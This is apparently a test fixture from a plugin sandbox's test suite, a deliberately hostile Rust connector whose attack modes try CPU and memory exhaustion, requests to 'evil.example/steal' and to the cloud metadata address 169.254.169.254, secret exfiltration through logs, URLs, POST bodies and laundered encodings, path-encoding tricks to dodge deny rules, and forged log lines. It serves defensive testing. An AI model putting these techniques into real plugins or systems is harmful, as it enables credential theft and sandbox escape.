//! A hostile connector: each `attack` value misbehaves in one way the
//! sandbox must contain. Built from source by the test run.

use ward_sdk::http::Request;
use ward_sdk::{
    Actor, ActorKind, AuditPage, Config, Connector, Error, Event, Outcome, Result, TestReport,
    UserPage, secret_ref,
};

struct Hostile;

/// Starts a GET on the raw `wasi:http` interface (the SDK's client reads
/// every body whole; these attacks leave bodies unread).
fn start_get(
    authority: &str,
    path: &str,
) -> Result<ward_sdk::bindings::wasi::http::types::FutureIncomingResponse> {
    use ward_sdk::bindings::wasi::http::outgoing_handler;
    use ward_sdk::bindings::wasi::http::types::{Fields, OutgoingRequest, Scheme};
    let request = OutgoingRequest::new(Fields::new());
    let built = request
        .set_scheme(Some(&Scheme::Https))
        .and_then(|()| request.set_authority(Some(authority)))
        .and_then(|()| request.set_path_with_query(Some(path)));
    if built.is_err() {
        return Err(Error::internal(format!(
            "building GET https://{authority}{path}"
        )));
    }
    outgoing_handler::handle(request, None)
        .map_err(|code| Error::internal(format!("GET https://{authority}{path}: {code:?}")))
}

fn event(id: String, raw: String) -> Event {
    Event {
        id,
        // 2025-11-29T00:00:00Z: inside the host's accepted window.
        time: 1_764_374_400_000,
        action: "hostile".into(),
        actor: Actor {
            id: None,
            kind: ActorKind::Unknown,
            name: None,
            email: None,
        },
        targets: Vec::new(),
        ip: None,
        user_agent: None,
        outcome: Outcome::Unknown,
        raw,
    }
}

#[inline(never)]
#[allow(unconditional_recursion)]
fn recurse(depth: u64, pad: &mut [u8; 256]) -> u64 {
    pad[(depth % 256) as usize] = depth as u8;
    let mut next = [0u8; 256];
    next[0] = pad[0];
    recurse(depth + 1, &mut next) + u64::from(pad[1])
}

/// What the echo endpoint reflects of our authorization header, in its
/// body and in its `x-echo-authorization` header: the raw value on a host
/// that does not scrub, `{{secret:api_token}}` on Ward.
fn learn_echo() -> Result<(String, String)> {
    let response = Request::get("https://echo.ward.test/reflect")
        .header("authorization", secret_ref("api_token"))
        .send()?;
    let header = response
        .header("x-echo-authorization")
        .unwrap_or_default()
        .to_string();
    Ok((response.text().trim().to_string(), header))
}

/// Hides a string the ways an exfiltrating plugin would: reversed,
/// hex-encoded, upper-cased, split in three.
fn laundered(value: &str) -> Vec<String> {
    let reversed: String = value.chars().rev().collect();
    let hexed: String = reversed
        .bytes()
        .map(|b| format!("{b:02x}"))
        .collect::<String>()
        .to_uppercase();
    let third = hexed.len().div_ceil(3).max(1);
    hexed
        .as_bytes()
        .chunks(third)
        .map(|c| String::from_utf8_lossy(c).into_owned())
        .collect()
}

/// A secret the plugin got hold of: handed over by a side channel (the
/// `payload` config field) or, failing that, what the echo endpoint
/// reflects for our authorization header.
fn learn_secret(config: &Config) -> Result<String> {
    if let Some(payload) = config.get("payload") {
        return Ok(payload.to_string());
    }
    let response = Request::get("https://echo.ward.test/reflect")
        .header("authorization", secret_ref("api_token"))
        .send()?;
    let value = response.text();
    Ok(value.trim().to_string())
}

impl Connector for Hostile {
    fn test(config: &Config) -> Result<TestReport> {
        let checks = match config.require("attack")? {
            "long-check" => vec![ward_sdk::Check {
                name: "c".repeat(5000),
                ok: true,
                message: "fine".into(),
            }],
            _ => Vec::new(),
        };
        Ok(TestReport {
            checks,
            account_name: None,
            principal: None,
        })
    }

    fn fetch_audit(config: &Config, _since: i64, _cursor: Option<String>) -> Result<AuditPage> {
        let attack = config.require("attack")?;
        let page = |events: Vec<Event>, cursor: String| AuditPage {
            events,
            cursor,
            more: false,
        };
        match attack {
            "benign" => Ok(page(vec![event("ok-1".into(), "{}".into())], "c1".into())),
            "loop" => {
                let mut x: u64 = 0;
                loop {
                    x = std::hint::black_box(x.wrapping_mul(6364136223846793005).wrapping_add(1));
                }
            }
            "alloc" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "recursion" => {
                let mut pad = [0u8; 256];
                let n = recurse(0, &mut pad);
                Ok(page(Vec::new(), n.to_string()))
            }
            "outside" => {
                Request::get("https://evil.example/steal").send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "wrong-method" => {
                let domain = config.require("domain")?;
                Request::post(format!("https://{domain}.okta.com/api/v1/logs"))
                    .header("authorization", format!("SSWS {}", secret_ref("api_token")))
                    .send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "wrong-path" => {
                let domain = config.require("domain")?;
                Request::get(format!("https://{domain}.okta.com/oauth2/v1/clients"))
                    .header("authorization", format!("SSWS {}", secret_ref("api_token")))
                    .send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "secret-wrong-host" => {
                Request::get("https://collector.ward.test/collect")
                    .header(
                        "authorization",
                        format!("Bearer {}", secret_ref("api_token")),
                    )
                    .send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "secret-in-url" => {
                let domain = config.require("domain")?;
                Request::get(format!(
                    "https://{domain}.okta.com/api/v1/logs?token={}",
                    secret_ref("api_token")
                ))
                .send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "private-dns" => {
                Request::get("https://localhost/latest/meta-data/").send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "metadata-dns" => {
                Request::get("https://metadata.ward.test/latest/meta-data/").send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "mapped-dns" => {
                Request::get("https://mapped.ward.test/latest/meta-data/").send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "loopback-dns" => {
                Request::get("https://loopback.ward.test/admin").send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "redirect" => {
                // The host hands the 3xx back; following it is the plugin's
                // choice, and the target must be granted like any other URL.
                let first = Request::get("https://collector.ward.test/redirect").send()?;
                let location = first.header("location").unwrap_or_default().to_string();
                let status = first.status;
                let followed = Request::get(location).send();
                Ok(page(Vec::new(), format!("{status} {followed:?}")))
            }
            // Waits on a provider that answers only when the test lets it
            // (the test grants `stall.ward.test` in a rewritten manifest).
            "stall" => {
                Request::get("https://stall.ward.test/hang/now").send()?;
                Ok(page(Vec::new(), "stalled".into()))
            }
            "big-response" => {
                Request::get("https://collector.ward.test/big").send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            // Holds 40 responses of 16 MiB without reading a byte of them:
            // the host must not buffer them past the plugin's memory cap.
            "hoard-responses" => {
                let mut hoard = Vec::new();
                for i in 0..40 {
                    let future = start_get("collector.ward.test", "/sixteen-mib")?;
                    future.subscribe().block();
                    match future.get() {
                        Some(Ok(Ok(response))) => hoard.push(response),
                        Some(Ok(Err(code))) => {
                            return Err(Error::internal(format!(
                                "response {i} of 40 refused: {code:?}"
                            )));
                        }
                        _ => return Err(Error::internal(format!("response {i}: bad state"))),
                    }
                }
                Ok(page(Vec::new(), format!("hoarded {}", hoard.len())))
            }
            // Leaves a request in flight and spins until the CPU budget
            // stops the call.
            "spin-in-flight" => {
                let in_flight = start_get("collector.ward.test", "/slow")?;
                let mut x: u64 = 0;
                loop {
                    x = std::hint::black_box(x.wrapping_mul(6364136223846793005).wrapping_add(1));
                    std::hint::black_box(&in_flight);
                }
            }
            // `;` parameters: under a grant that allows them, under one that
            // does not, and dodging a deny rule.
            "path-params" => {
                let sent: Vec<String> = ["/matrix/items;v=2", "/plain;v=2", "/matrix/secret;v=2"]
                    .iter()
                    .map(|path| {
                        Request::get(format!("https://collector.ward.test{path}"))
                            .send()
                            .is_ok()
                            .to_string()
                    })
                    .collect();
                Ok(page(Vec::new(), sent.join(" ")))
            }
            // Three transport failures (granted by the test's rewritten
            // manifest): what the plugin is told about each.
            "transport-errors" => {
                let told: Vec<String> = ["nxdomain", "badcert", "refused"]
                    .iter()
                    .map(
                        |host| match Request::get(format!("https://{host}.ward.test/x")).send() {
                            Ok(r) => format!("answered {}", r.status),
                            Err(e) => e.to_string(),
                        },
                    )
                    .collect();
                Ok(page(Vec::new(), told.join(" | ")))
            }
            "request-flood" => {
                for _ in 0..100 {
                    Request::get("https://collector.ward.test/ping").send()?;
                }
                Ok(page(Vec::new(), "flooded".into()))
            }
            "echo-secret" => {
                let secret = learn_secret(config)?;
                ward_sdk::log::warn(&format!("stolen: {secret}"));
                println!("stdout: {secret}");
                Ok(page(
                    vec![event(
                        format!("ev-{secret}"),
                        format!("{{\"token\":\"{secret}\"}}"),
                    )],
                    format!("cursor-{secret}"),
                ))
            }
            "echo-secret-error" => {
                let secret = learn_secret(config)?;
                Err(Error::internal(format!("failed with token {secret}")))
            }
            "oversized" => {
                let events = (0..2000)
                    .map(|i| event(format!("ev-{i}"), "{}".into()))
                    .collect();
                Ok(page(events, "c".into()))
            }
            "stdout-flood" => {
                let line = "x".repeat(1024);
                for _ in 0..100_000 {
                    println!("{line}");
                }
                Ok(page(Vec::new(), "c".into()))
            }
            "metadata-ip" => {
                Request::get("http://169.254.169.254/latest/meta-data/").send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "metadata-mapped" => {
                Request::get("http://[::ffff:169.254.169.254]/latest/meta-data/").send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "header-flood" => {
                let mut request = Request::get("https://collector.ward.test/headers");
                for i in 0..200 {
                    request = request.header(&format!("x-flood-{i}"), "y".repeat(100));
                }
                request.send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "response-headers" => {
                Request::get("https://collector.ward.test/many-headers").send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "policy-path" => {
                Request::get("https://collector.ward.test/admin/users").send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "policy-secret" => {
                Request::get("https://echo.ward.test/reflect")
                    .header("authorization", secret_ref("api_token"))
                    .send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "oversized-bytes" => {
                let raw = format!("\"{}\"", "z".repeat(2 << 20));
                Ok(page(vec![event("big".into(), raw)], "c".into()))
            }
            "echo-launder" => {
                // Everything the plugin read, laundered into events, the
                // cursor, a log line and stdout; the cursor also reports
                // the bytes it read, for the test to compare.
                let (body, header) = learn_echo()?;
                let events = laundered(&format!("{body}|{header}"))
                    .into_iter()
                    .enumerate()
                    .map(|(i, part)| event(format!("part-{i}"), format!("{{\"part\":\"{part}\"}}")))
                    .collect();
                ward_sdk::log::warn(&format!("read {body} {header}"));
                println!("read {body} {header}");
                Ok(page(events, format!("read:{body}|{header}")))
            }
            "echo-forward" => {
                // Forwards what it read to a granted host bound to no
                // secret: as a header, in a POST body and in the URL.
                let (body, _) = learn_echo()?;
                let header = Request::get("https://collector.ward.test/h")
                    .header("x-forward", body.clone())
                    .send();
                let posted = Request::post("https://collector.ward.test/b")
                    .body(body.clone())
                    .send();
                let in_url = Request::get(format!("https://collector.ward.test/u?v={body}")).send();
                Ok(page(
                    Vec::new(),
                    format!("{} {} {}", header.is_ok(), posted.is_ok(), in_url.is_ok()),
                ))
            }
            "raw-forward" => {
                // A raw value the plugin got by a side channel (here: its
                // configuration), sent to the unbound collector and to the
                // bound echo host in the URL.
                let value = config.require("payload")?.to_string();
                let header = Request::get("https://collector.ward.test/h")
                    .header("x-forward", value.clone())
                    .send();
                let posted = Request::post("https://collector.ward.test/b")
                    .body(ward_sdk::http::base64_encode(value.as_bytes()))
                    .send();
                let in_url = Request::get(format!("https://echo.ward.test/u?v={value}")).send();
                let bound = Request::get("https://echo.ward.test/reflect")
                    .header("authorization", value)
                    .send();
                Ok(page(
                    Vec::new(),
                    format!(
                        "{} {} {} {}",
                        header.is_ok(),
                        posted.is_ok(),
                        in_url.is_ok(),
                        bound.is_ok()
                    ),
                ))
            }
            "path-variants" => {
                let domain = config.require("domain")?;
                let mut results = Vec::new();
                for path in [
                    "/api/v1/%6cogs",
                    "/api/v1/%6C%6F%67%73",
                    "/api/v1//logs",
                    "/api/v1/logs;x",
                    "/api/v1/LOGS",
                ] {
                    let sent = Request::get(format!("https://{domain}.okta.com{path}"))
                        .header("authorization", format!("SSWS {}", secret_ref("api_token")))
                        .send();
                    results.push(sent.is_ok().to_string());
                }
                Ok(page(Vec::new(), results.join(" ")))
            }
            "path-encoded" => {
                let domain = config.require("domain")?;
                let sent =
                    Request::get(format!("https://{domain}.okta.com/api/v1/%75sers?limit=1"))
                        .header("authorization", format!("SSWS {}", secret_ref("api_token")))
                        .send()?;
                Ok(page(Vec::new(), sent.status.to_string()))
            }
            "log-forge" => {
                ward_sdk::log::warn(
                    "benign\n2026-11-29T14:00:00.000000Z  INFO ward_daemon::scheduler: instance hostile-instance connected\r\u{1b}[2K\u{1b}[31mforged",
                );
                Ok(page(Vec::new(), "c".into()))
            }
            "slow-request" => {
                // The stand-in never answers in time: the call's wall clock
                // stops it with the request in flight.
                Request::get("https://collector.ward.test/slow").send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "big-request" => {
                Request::post("https://collector.ward.test/upload")
                    .body(vec![b'x'; 2 << 20])
                    .send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "long-error" => Err(Error::internal("e".repeat(5000))),
            "long-cursor" => Ok(page(Vec::new(), "c".repeat(70 * 1024))),
            "long-event-id" => Ok(page(vec![event("i".repeat(600), "{}".into())], "c".into())),
            "old-event" => {
                let mut e = event("old".into(), "{}".into());
                e.time = 0;
                Ok(page(vec![e], "c".into()))
            }
            "future-event" => {
                let now = std::time::SystemTime::now()
                    .duration_since(std::time::UNIX_EPOCH)
                    .map(|d| d.as_millis() as i64)
                    .unwrap_or(0);
                let mut e = event("future".into(), "{}".into());
                e.time = now + 2 * 86_400_000;
                Ok(page(vec![e], "c".into()))
            }
            "trap" => std::process::abort(),
            other => Err(Error::invalid_config(format!("unknown attack {other}"))),
        }
    }

    fn fetch_users(_config: &Config, _cursor: Option<String>) -> Result<UserPage> {
        Ok(UserPage {
            users: Vec::new(),
            cursor: None,
            more: false,
        })
    }
}

ward_sdk::export_connector!(Hostile);
